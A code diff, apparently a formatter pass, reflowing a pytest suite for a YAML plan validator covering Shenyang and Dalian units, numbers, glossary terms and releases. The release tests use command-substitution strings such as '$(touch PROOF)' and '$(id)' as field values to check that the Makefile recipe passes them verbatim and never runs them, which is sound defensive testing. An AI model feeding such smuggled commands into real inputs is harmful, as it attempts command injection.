     r = cli(capsys, "validate", "--plan", str(plan_copy.dir))
-    refused(r, "places.yaml:", "the plan's files hold more than 250,000 values (texts, numbers, lists, mappings) together")
+    refused(
+        r, "places.yaml:", "the plan's files hold more than 250,000 values (texts, numbers, lists, mappings) together"
+    )
     assert not [line for line in r.stderr.splitlines() if "units.yaml" in line and "values" in line]  # within the limit
 
 
 def test_many_problems_stop_the_check_with_a_line_that_says_so(plan_copy, capsys):
-    plan_copy.write("chapters/2.yaml", plan_copy.read("chapters/2.yaml").replace(
-        "        places:\n          - shenyang\n", "        places:\n" + "".join(f"          - p{i:05d}\n" for i in range(5000)), 1))
+    plan_copy.write(
+        "chapters/2.yaml",
+        plan_copy.read("chapters/2.yaml").replace(
+            "        places:\n          - shenyang\n",
+            "        places:\n" + "".join(f"          - p{i:05d}\n" for i in range(5000)),
+            1,
+        ),
+    )
     r = cli(capsys, "validate", "--plan", str(plan_copy.dir))
     assert_clean_failure(r, "unknown place 'p00000'", "the check stopped after 200 problems")
     assert len(r.stderr.splitlines()) < 210
@@ -807,18 +1006,27 @@ def test_many_problems_stop_the_check_with_a_line_that_says_so(plan_copy, capsys
 
 # ---- 5. YAML 1.1 numbers and booleans; a target's value against the text it quotes ---------------------------------
 
-YAML11 = [("value: 30\n", "value: 030\n", "030", "as the number 24 (octal"), ("value: 30\n", "value: 0x1e\n", "0x1e", "hexadecimal"),
-          ("value: 30\n", "value: 0b11110\n", "0b11110", "binary"), ("value: 30\n", "value: 1_000\n", "1_000", "grouped with '_'"),
-          ("value: 30\n", "value: +30\n", "+30", "a leading '+'"), ("value: 30\n", "value: 1:30\n", "1:30", "as the number 90 (in base 60)"),
-          ("value: 30\n", "value: 30.\n", "30.", "without digits on both sides"),
-          ("aspirational: true\n", "aspirational: yes\n", "yes", "'yes' is read by YAML 1.1 as true; write true or false")]
+YAML11 = [
+    ("value: 30\n", "value: 030\n", "030", "as the number 24 (octal"),
+    ("value: 30\n", "value: 0x1e\n", "0x1e", "hexadecimal"),
+    ("value: 30\n", "value: 0b11110\n", "0b11110", "binary"),
+    ("value: 30\n", "value: 1_000\n", "1_000", "grouped with '_'"),
+    ("value: 30\n", "value: +30\n", "+30", "a leading '+'"),
+    ("value: 30\n", "value: 1:30\n", "1:30", "as the number 90 (in base 60)"),
+    ("value: 30\n", "value: 30.\n", "30.", "without digits on both sides"),
+    ("aspirational: true\n", "aspirational: yes\n", "yes", "'yes' is read by YAML 1.1 as true; write true or false"),
+]
 
 
 @pytest.mark.parametrize("old, new, needle, words", YAML11, ids=[c[2] for c in YAML11])
 def test_yaml_11_numbers_and_booleans_are_refused_with_what_to_write(plan_copy, capsys, old, new, needle, words):
     text = plan_copy.read("targets.yaml").replace(old, new, 1)
     plan_copy.write("targets.yaml", text)
-    line = refused(cli(capsys, "validate", "--plan", str(plan_copy.dir)), f"targets.yaml:{line_col(text, new.split(': ')[1])}:", words)
+    line = refused(
+        cli(capsys, "validate", "--plan", str(plan_copy.dir)),
+        f"targets.yaml:{line_col(text, new.split(': ')[1])}:",
+        words,
+    )
     assert "write" in line and "quote it if it is text" in line
 
 
@@ -826,19 +1034,31 @@ def test_a_time_like_text_is_refused_with_the_advice_to_quote_it(plan_copy, caps
     text = plan_copy.read("glossary.yaml")
     en = text.split("      en: ", 1)[1].split("\n", 1)[0]
     plan_copy.write("glossary.yaml", text.replace("      en: " + en, "      en: 12:30:00", 1))
-    refused(cli(capsys, "validate", "--plan", str(plan_copy.dir)), "glossary.yaml:", "'12:30:00' looks like a time",
-            "the number 45000", "quote it if it is text ('12:30:00')")
+    refused(
+        cli(capsys, "validate", "--plan", str(plan_copy.dir)),
+        "glossary.yaml:",
+        "'12:30:00' looks like a time",
+        "the number 45000",
+        "quote it if it is text ('12:30:00')",
+    )
 
 
 def test_a_target_value_must_be_the_number_its_text_gives(plan_copy, capsys):
     text = plan_copy.read("targets.yaml").replace("value: 30\n", "value: 45\n", 1)
     plan_copy.write("targets.yaml", text)
-    refused(cli(capsys, "validate", "--plan", str(plan_copy.dir)), f"targets.yaml:{line_col(text, '45')}: targets[0].value:",
-            "value 45 is not in the text it quotes", "which writes 30")
-    assert checks.numbers_in("金融业增加值力争实现千亿元") == {1000.0} and checks.numbers_in("达到9,000家，增长7.7%") == {9000.0, 7.7}
+    refused(
+        cli(capsys, "validate", "--plan", str(plan_copy.dir)),
+        f"targets.yaml:{line_col(text, '45')}: targets[0].value:",
+        "value 45 is not in the text it quotes",
+        "which writes 30",
+    )
+    assert checks.numbers_in("金融业增加值力争实现千亿元") == {1000.0} and checks.numbers_in(
+        "达到9,000家，增长7.7%"
+    ) == {9000.0, 7.7}
 
 
 # ---- 6. rules across records and files ---------------------------------------------------------------------------
+
 
 def _first(d, key, ident):
     return next(x for x in d[key] if x["id"] == ident)
@@ -850,34 +1070,108 @@ def _clause(d, raw, groups):
 
 TERMS = len(yamlio.load((PLAN_DIR / "glossary.yaml").read_text(encoding="utf-8"))[0]["terms"])  # a new term's index
 CROSS = [
-    ("glossary.yaml", lambda d: d["terms"].append({"id": "again", "term": dict(d["terms"][0]["term"], en="Another rendering")}),
-     f"terms[{TERMS}].term.zh", "is already defined at terms[0]"),
-    ("glossary.yaml", lambda d: d["terms"].append({"id": "other", "term": {"zh": "另一术语", "en": d["terms"][1]["term"]["en"]}}),
-     f"terms[{TERMS}].term.en", "is also the rendering of terms[1]"),
-    ("chapters/2.yaml", lambda d: _clause(d, "省商务厅、省商务厅", [{"units": ["commerce", "commerce"], "etc": False}]),
-     "sections[0].items[0].responsibility.groups[0].units[1]", "'commerce' is named as the lead unit and again as co-responsible"),
-    ("chapters/2.yaml", lambda d: _clause(d, "省商务厅，省交通运输厅、省交通运输厅", [{"units": ["commerce"], "etc": False},
-                                                                       {"units": ["transport", "transport"], "etc": False}]),
-     "sections[0].items[0].responsibility.groups[1].units[1]", "'transport' is named twice in this clause"),
-    ("chapters/3.yaml", lambda d: d.__setitem__("region", "shenyang"), "region", "'shenyang' is a city; a chapter's region"),
-    ("units.yaml", lambda d: _first(d, "units", "shenyang-government").__setitem__("place", "shenyang-metropolitan-area"),
-     "units[26].place", "is a region; a city-government unit's place is a city"),
-    ("units.yaml", lambda d: _first(d, "units", "dalian-government").__setitem__("place", "shenyang"),
-     "units[27].place", "'shenyang' already has a government, 'shenyang-government'"),
-    ("units.yaml", lambda d: _first(d, "units", "commerce").__setitem__("place", "dalian"), "units[2].place",
-     "only city-government and demonstration-zone units have a place"),
-    ("units.yaml", lambda d: d["units"].append(dict(d["units"][0], id="idle-bureau", name={"zh": "省闲置局", "en": "Idle Bureau"})),
-     "units[33].id", "unit 'idle-bureau' is named by no responsibility clause"),
-    ("places.yaml", lambda d: d["sources"][0].__setitem__("date", "2018-13-45"), "sources[0].date", "month 13 does not exist"),
-    ("places.yaml", lambda d: d["sources"][0].__setitem__("date", "2023-02-29"), "sources[0].date", "2023-02 has no day 29"),
-    ("targets.yaml", lambda d: _first(d, "targets", "1.4.1-t2").__setitem__("id", "1.4.1-t02"), "targets[1].id",
-     "'1.4.1-t02' is not numbered as ids are; write '1.4.1-t2'"),
-    ("targets.yaml", lambda d: d["targets"].insert(1, d["targets"].pop(2)), "targets[2].id", "'1.4.1-t2' is out of sequence: it comes after '1.4.1-t3'"),
-    ("targets.yaml", lambda d: d["targets"][0]["scope"].append(d["targets"][0]["scope"][0]), "targets[0].scope[1]",
-     '"shenyang-metropolitan-area" is listed twice'),
-    ("glossary.yaml", lambda d: d["terms"].append({"id": "com1", "term": {"zh": "端口", "en": "port"}}), f"terms[{TERMS}].id",
-     "'com1' is the name of a device on Windows"),
-    ("places.yaml", lambda d: _first(d, "places", "shenfu").__setitem__("id", "nul"), "places[14].id", "'nul' is the name of a device on Windows"),
+    (
+        "glossary.yaml",
+        lambda d: d["terms"].append({"id": "again", "term": dict(d["terms"][0]["term"], en="Another rendering")}),
+        f"terms[{TERMS}].term.zh",
+        "is already defined at terms[0]",
+    ),
+    (
+        "glossary.yaml",
+        lambda d: d["terms"].append({"id": "other", "term": {"zh": "另一术语", "en": d["terms"][1]["term"]["en"]}}),
+        f"terms[{TERMS}].term.en",
+        "is also the rendering of terms[1]",
+    ),
+    (
+        "chapters/2.yaml",
+        lambda d: _clause(d, "省商务厅、省商务厅", [{"units": ["commerce", "commerce"], "etc": False}]),
+        "sections[0].items[0].responsibility.groups[0].units[1]",
+        "'commerce' is named as the lead unit and again as co-responsible",
+    ),
+    (
+        "chapters/2.yaml",
+        lambda d: _clause(
+            d,
+            "省商务厅，省交通运输厅、省交通运输厅",
+            [{"units": ["commerce"], "etc": False}, {"units": ["transport", "transport"], "etc": False}],
+        ),
+        "sections[0].items[0].responsibility.groups[1].units[1]",
+        "'transport' is named twice in this clause",
+    ),
+    (
+        "chapters/3.yaml",
+        lambda d: d.__setitem__("region", "shenyang"),
+        "region",
+        "'shenyang' is a city; a chapter's region",
+    ),
+    (
+        "units.yaml",
+        lambda d: _first(d, "units", "shenyang-government").__setitem__("place", "shenyang-metropolitan-area"),
+        "units[26].place",
+        "is a region; a city-government unit's place is a city",
+    ),
+    (
+        "units.yaml",
+        lambda d: _first(d, "units", "dalian-government").__setitem__("place", "shenyang"),
+        "units[27].place",
+        "'shenyang' already has a government, 'shenyang-government'",
+    ),
+    (
+        "units.yaml",
+        lambda d: _first(d, "units", "commerce").__setitem__("place", "dalian"),
+        "units[2].place",
+        "only city-government and demonstration-zone units have a place",
+    ),
+    (
+        "units.yaml",
+        lambda d: d["units"].append(
+            dict(d["units"][0], id="idle-bureau", name={"zh": "省闲置局", "en": "Idle Bureau"})
+        ),
+        "units[33].id",
+        "unit 'idle-bureau' is named by no responsibility clause",
+    ),
+    (
+        "places.yaml",
+        lambda d: d["sources"][0].__setitem__("date", "2018-13-45"),
+        "sources[0].date",
+        "month 13 does not exist",
+    ),
+    (
+        "places.yaml",
+        lambda d: d["sources"][0].__setitem__("date", "2023-02-29"),
+        "sources[0].date",
+        "2023-02 has no day 29",
+    ),
+    (
+        "targets.yaml",
+        lambda d: _first(d, "targets", "1.4.1-t2").__setitem__("id", "1.4.1-t02"),
+        "targets[1].id",
+        "'1.4.1-t02' is not numbered as ids are; write '1.4.1-t2'",
+    ),
+    (
+        "targets.yaml",
+        lambda d: d["targets"].insert(1, d["targets"].pop(2)),
+        "targets[2].id",
+        "'1.4.1-t2' is out of sequence: it comes after '1.4.1-t3'",
+    ),
+    (
+        "targets.yaml",
+        lambda d: d["targets"][0]["scope"].append(d["targets"][0]["scope"][0]),
+        "targets[0].scope[1]",
+        '"shenyang-metropolitan-area" is listed twice',
+    ),
+    (
+        "glossary.yaml",
+        lambda d: d["terms"].append({"id": "com1", "term": {"zh": "端口", "en": "port"}}),
+        f"terms[{TERMS}].id",
+        "'com1' is the name of a device on Windows",
+    ),
+    (
+        "places.yaml",
+        lambda d: _first(d, "places", "shenfu").__setitem__("id", "nul"),
+        "places[14].id",
+        "'nul' is the name of a device on Windows",
+    ),
 ]
 
 
@@ -898,29 +1192,57 @@ def test_a_chapter_of_more_than_99_sections_is_refused_not_a_crash(plan_copy, ca
 def test_an_error_the_validator_let_through_says_it_is_a_bug():
     from lnplan.build import summarize
 
-    out = ("INFO - Building\nTraceback (most recent call last):\n  File \"x.py\", line 1\n"
-           "sqlite3.IntegrityError: UNIQUE constraint failed: target_scope.target, target_scope.place\n")
+    out = (
+        'INFO - Building\nTraceback (most recent call last):\n  File "x.py", line 1\n'
+        "sqlite3.IntegrityError: UNIQUE constraint failed: target_scope.target, target_scope.place\n"
+    )
     line = summarize(out)
-    assert "\n" not in line and line.startswith("sqlite3.IntegrityError") and "a bug: the validator accepted this plan" in line
+    assert (
+        "\n" not in line
+        and line.startswith("sqlite3.IntegrityError")
+        and "a bug: the validator accepted this plan" in line
+    )
 
 
 # ---- 7. invisible, noncharacter and blank text ----------------------------------------------------------------------
 
-INVISIBLE = [("\u3164", "U+3164 HANGUL FILLER"), ("\u034f", "U+034F COMBINING GRAPHEME JOINER"), ("\u2800", "U+2800 BRAILLE PATTERN BLANK"),
-             ("\u115f", "U+115F HANGUL CHOSEONG FILLER"), ("\ufe0f", "U+FE0F VARIATION SELECTOR-16"), ("\ufffd", "U+FFFD REPLACEMENT CHARACTER"),
-             ("\ufdd0", "U+FDD0 (a noncharacter)"), ("\U0010ffff", "U+10FFFF (a noncharacter)"), ("\ue000", "U+E000 (a private-use character)"),
-             ("\u00a0", "U+00A0 NO-BREAK SPACE"), ("\u3000", "U+3000 IDEOGRAPHIC SPACE"), ("\u0378", "U+0378 (an unassigned code point)")]
+INVISIBLE = [
+    ("\u3164", "U+3164 HANGUL FILLER"),
+    ("\u034f", "U+034F COMBINING GRAPHEME JOINER"),
+    ("\u2800", "U+2800 BRAILLE PATTERN BLANK"),
+    ("\u115f", "U+115F HANGUL CHOSEONG FILLER"),
+    ("\ufe0f", "U+FE0F VARIATION SELECTOR-16"),
+    ("\ufffd", "U+FFFD REPLACEMENT CHARACTER"),
+    ("\ufdd0", "U+FDD0 (a noncharacter)"),
+    ("\U0010ffff", "U+10FFFF (a noncharacter)"),
+    ("\ue000", "U+E000 (a private-use character)"),
+    ("\u00a0", "U+00A0 NO-BREAK SPACE"),
+    ("\u3000", "U+3000 IDEOGRAPHIC SPACE"),
+    ("\u0378", "U+0378 (an unassigned code point)"),
+]
 
 
 @pytest.mark.parametrize("ch, name", INVISIBLE, ids=[n.split()[0] for _, n in INVISIBLE])
 def test_invisible_and_noncharacters_are_refused(plan_copy, capsys, ch, name):
     text = plan_copy.read("chapters/2.yaml").replace("zh: 提升沈阳", f"zh: 提升{ch}沈阳", 1)
     plan_copy.write("chapters/2.yaml", text)
-    refused(cli(capsys, "validate", "--plan", str(plan_copy.dir)), f"chapters/2.yaml:{line_col(text, ch)}:", name, "is not allowed")
+    refused(
+        cli(capsys, "validate", "--plan", str(plan_copy.dir)),
+        f"chapters/2.yaml:{line_col(text, ch)}:",
+        name,
+        "is not allowed",
+    )
 
 
-@pytest.mark.parametrize("value, words", [('"\\U0010FFFF"', "U+10FFFF (a noncharacter)"), ('"\\u3164"', "U+3164 HANGUL FILLER"),
-                                          ("'   '", "this text is only spaces"), ('"\\ud800x"', "U+D800 (a lone surrogate)")])
+@pytest.mark.parametrize(
+    "value, words",
+    [
+        ('"\\U0010FFFF"', "U+10FFFF (a noncharacter)"),
+        ('"\\u3164"', "U+3164 HANGUL FILLER"),
+        ("'   '", "this text is only spaces"),
+        ('"\\ud800x"', "U+D800 (a lone surrogate)"),
+    ],
+)
 def test_escapes_and_blank_texts_are_refused(plan_copy, capsys, value, words):
     text = plan_copy.read("glossary.yaml")
     en = text.split("      en: ", 1)[1].split("\n", 1)[0]
@@ -931,10 +1253,15 @@ def test_escapes_and_blank_texts_are_refused(plan_copy, capsys, value, words):
 
 # ---- 8. files that are not UTF-8: one line in every tool -----------------------------------------------------------
 
-@pytest.mark.parametrize("command", [("validate",), ("fmt",), ("fmt", "--check"), ("punctuation",), ("punctuation", "--check")])
+
+@pytest.mark.parametrize(
+    "command", [("validate",), ("fmt",), ("fmt", "--check"), ("punctuation",), ("punctuation", "--check")]
+)
 def test_a_file_that_is_not_utf8_gets_one_line_with_the_byte_offset(plan_copy, capsys, command):
     raw = (plan_copy.dir / "units.yaml").read_bytes()
-    (plan_copy.dir / "units.yaml").write_bytes(raw[:100] + "沈".encode("gb18030") + raw[100:])  # a GB 18030 character: C9 F2
+    (plan_copy.dir / "units.yaml").write_bytes(
+        raw[:100] + "沈".encode("gb18030") + raw[100:]
+    )  # a GB 18030 character: C9 F2
     r = cli(capsys, *command, "--plan", str(plan_copy.dir))
     refused(r, "units.yaml: ", "not UTF-8 text (invalid continuation byte at byte 100); save the file as UTF-8")
     assert (plan_copy.dir / "units.yaml").read_bytes()[100:102] == "沈".encode("gb18030")
@@ -955,39 +1282,62 @@ def _pending_release(plan_dir: Path) -> str:
     plan = load_plan(plan_dir)
     major, minor, patch = releases.parse_version(plan.releases[-1].version)
     need, _ = releases.required_bump(releases.unreleased(plan))
-    return {"major": f"{major + 1}.0.0", "minor": f"{major}.{minor + 1}.0", "patch": f"{major}.{minor}.{patch + 1}"}[need]
+    return {"major": f"{major + 1}.0.0", "minor": f"{major}.{minor + 1}.0", "patch": f"{major}.{minor}.{patch + 1}"}[
+        need
+    ]
 
 
 def test_make_release_passes_texts_verbatim_through_the_environment(tmp_path):
     """The recipe itself, with a stand-in for the venv's python that prints what it was given."""
     bin_dir = tmp_path / "bin"
     bin_dir.mkdir()
-    (bin_dir / "python").write_text("#!/bin/sh\nexec " + PY + ' -c "import json, os, sys; print(json.dumps([sys.argv[1:], '
-                                    "{k: v for k, v in os.environ.items() if k.startswith('LNPLAN_')}]))\" \"$@\"\n")
+    (bin_dir / "python").write_text(
+        "#!/bin/sh\nexec " + PY + ' -c "import json, os, sys; print(json.dumps([sys.argv[1:], '
+        '{k: v for k, v in os.environ.items() if k.startswith(\'LNPLAN_\')}]))" "$@"\n'
+    )
     (bin_dir / "python").chmod(0o755)
     (tmp_path / "stamp").touch()
     zh = "修正 $(touch PROOF)\n第二行"
-    r = subprocess.run(["make", "-s", "release", f"BIN={bin_dir}", f"STAMP={tmp_path / 'stamp'}", "VERSION=1.2.0",
-                        f"SUMMARY_ZH={zh}", f"SUMMARY_EN={HOSTILE_SUMMARY}", "CORRECTIONS=C001 C002"],
-                       cwd=ROOT, capture_output=True, text=True, timeout=60)
+    r = subprocess.run(
+        [
+            "make",
+            "-s",
+            "release",
+            f"BIN={bin_dir}",
+            f"STAMP={tmp_path / 'stamp'}",
+            "VERSION=1.2.0",
+            f"SUMMARY_ZH={zh}",
+            f"SUMMARY_EN={HOSTILE_SUMMARY}",
+            "CORRECTIONS=C001 C002",
+        ],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert r.returncode == 0, r.stderr
     args, env = json.loads(r.stdout)
     assert args == ["-m", "lnplan", "release", "--from-env"]  # no text on the command line
-    assert env == {"LNPLAN_VERSION": "1.2.0", "LNPLAN_SUMMARY_ZH": zh, "LNPLAN_SUMMARY_EN": HOSTILE_SUMMARY,
-                   "LNPLAN_CORRECTIONS": "C001 C002", "LNPLAN_DATE": ""}
+    assert env == {
+        "LNPLAN_VERSION": "1.2.0",
+        "LNPLAN_SUMMARY_ZH": zh,
+        "LNPLAN_SUMMARY_EN": HOSTILE_SUMMARY,
+        "LNPLAN_CORRECTIONS": "C001 C002",
+        "LNPLAN_DATE": "",
+    }
     assert not (ROOT / "PROOF").exists() and not (tmp_path / "PROOF").exists()
 
 
 def test_a_release_from_the_environment_records_the_texts_verbatim(plan_copy, capsys, monkeypatch):
     version = _pending_release(plan_copy.dir)
     monkeypatch.setenv("LNPLAN_VERSION", version)
-    monkeypatch.setenv("LNPLAN_SUMMARY_ZH", "测试 $(id) `id` \"引号\"")
+    monkeypatch.setenv("LNPLAN_SUMMARY_ZH", '测试 $(id) `id` "引号"')
     monkeypatch.setenv("LNPLAN_SUMMARY_EN", HOSTILE_SUMMARY)
     monkeypatch.setenv("LNPLAN_CORRECTIONS", "C001")
     r = cli(capsys, "release", "--from-env", "--plan", str(plan_copy.dir))
     assert r.returncode == 0, r.stderr
     latest = yamlio.load(plan_copy.read("releases.yaml"))[0]["releases"][-1]
-    assert latest["summary"] == {"zh": "测试 $(id) `id` \"引号\"", "en": HOSTILE_SUMMARY}
+    assert latest["summary"] == {"zh": '测试 $(id) `id` "引号"', "en": HOSTILE_SUMMARY}
     assert latest["corrections"] == ["C001"] and latest["date"] != "2000-01-01" and latest["version"] == version
     assert not (ROOT / "PROOF").exists()
 
@@ -996,9 +1346,13 @@ def test_a_refused_release_names_what_was_typed_and_writes_nothing(plan_copy, ca
     version = _pending_release(plan_copy.dir)
     before = plan_copy.read("releases.yaml")
     snapshots = sorted((plan_copy.dir / "releases").iterdir())
-    r = cli(capsys, "release", version, "--summary-zh", "测试", "--summary-en", "two\nlines", "--plan", str(plan_copy.dir))
+    r = cli(
+        capsys, "release", version, "--summary-zh", "测试", "--summary-en", "two\nlines", "--plan", str(plan_copy.dir)
+    )
     refused(r, f"release {version}: ", "SUMMARY_EN (--summary-en): this value contains U+000A LINE FEED")
-    r = cli(capsys, "release", version, "--summary-zh", "测试", "--summary-en", "x" * 9000, "--plan", str(plan_copy.dir))
+    r = cli(
+        capsys, "release", version, "--summary-zh", "测试", "--summary-en", "x" * 9000, "--plan", str(plan_copy.dir)
+    )
     refused(r, f"release {version}: ", "SUMMARY_EN (--summary-en): text of 9,000 characters")
     assert plan_copy.read("releases.yaml") == before and sorted((plan_copy.dir / "releases").iterdir()) == snapshots
 
@@ -1017,10 +1371,15 @@ def test_a_failed_release_never_deletes_a_snapshot_that_was_there(plan_copy, cap
     assert stray.read_text(encoding="utf-8") == "not a snapshot: months of notes"
 
 
-@pytest.mark.parametrize("name, content, words", [
-    ("notes.txt", "x", "unexpected file, not part of the plan"), ("1.0.0.yaml", "x", "unexpected file, not part of the plan"),
-    ("9.9.9.json", "{}", "a snapshot of version 9.9.9, which plan/releases.yaml does not list"),
-    ("old", None, "unexpected directory, not part of the plan")])
+@pytest.mark.parametrize(
+    "name, content, words",
+    [
+        ("notes.txt", "x", "unexpected file, not part of the plan"),
+        ("1.0.0.yaml", "x", "unexpected file, not part of the plan"),
+        ("9.9.9.json", "{}", "a snapshot of version 9.9.9, which plan/releases.yaml does not list"),
+        ("old", None, "unexpected directory, not part of the plan"),
+    ],
+)
 def test_stray_files_among_the_snapshots_are_refused(plan_copy, capsys, name, content, words):
     path = plan_copy.dir / "releases" / name
     path.mkdir() if content is None else path.write_text(content, encoding="utf-8")
@@ -1029,9 +1388,15 @@ def test_stray_files_among_the_snapshots_are_refused(plan_copy, capsys, name, co
 
 def test_a_tampered_snapshot_is_refused_not_a_crash(plan_copy, capsys):
     snapshot = plan_copy.dir / "releases" / "1.0.0.json"
-    snapshot.write_text(snapshot.read_text(encoding="utf-8").replace('"title":{"zh":', '"title":5,"was":{"zh":', 1), encoding="utf-8")
-    line = refused(cli(capsys, "validate", "--plan", str(plan_copy.dir)), "releases.yaml:", "1.0.0.json['measures']",
-                   "['title']: 5 is not of type 'object'")
+    snapshot.write_text(
+        snapshot.read_text(encoding="utf-8").replace('"title":{"zh":', '"title":5,"was":{"zh":', 1), encoding="utf-8"
+    )
+    line = refused(
+        cli(capsys, "validate", "--plan", str(plan_copy.dir)),
+        "releases.yaml:",
+        "1.0.0.json['measures']",
+        "['title']: 5 is not of type 'object'",
+    )
     assert "never by hand" in line
 
 
@@ -1039,6 +1404,9 @@ def test_a_snapshot_that_is_not_json_points_at_its_release_and_its_own_line(plan
     snapshot = plan_copy.dir / "releases" / "1.0.0.json"
     snapshot.write_text(snapshot.read_text(encoding="utf-8").replace('"measures"', "measures", 1), encoding="utf-8")
     releases_yaml = plan_copy.read("releases.yaml")
-    line = refused(cli(capsys, "validate", "--plan", str(plan_copy.dir)), f"releases.yaml:{line_col(releases_yaml, '1.0.0')}:",
-                   f"snapshot {snapshot}:2:1 is not valid JSON")
+    line = refused(
+        cli(capsys, "validate", "--plan", str(plan_copy.dir)),
+        f"releases.yaml:{line_col(releases_yaml, '1.0.0')}:",
+        f"snapshot {snapshot}:2:1 is not valid JSON",
+    )
     assert "never by hand" in line
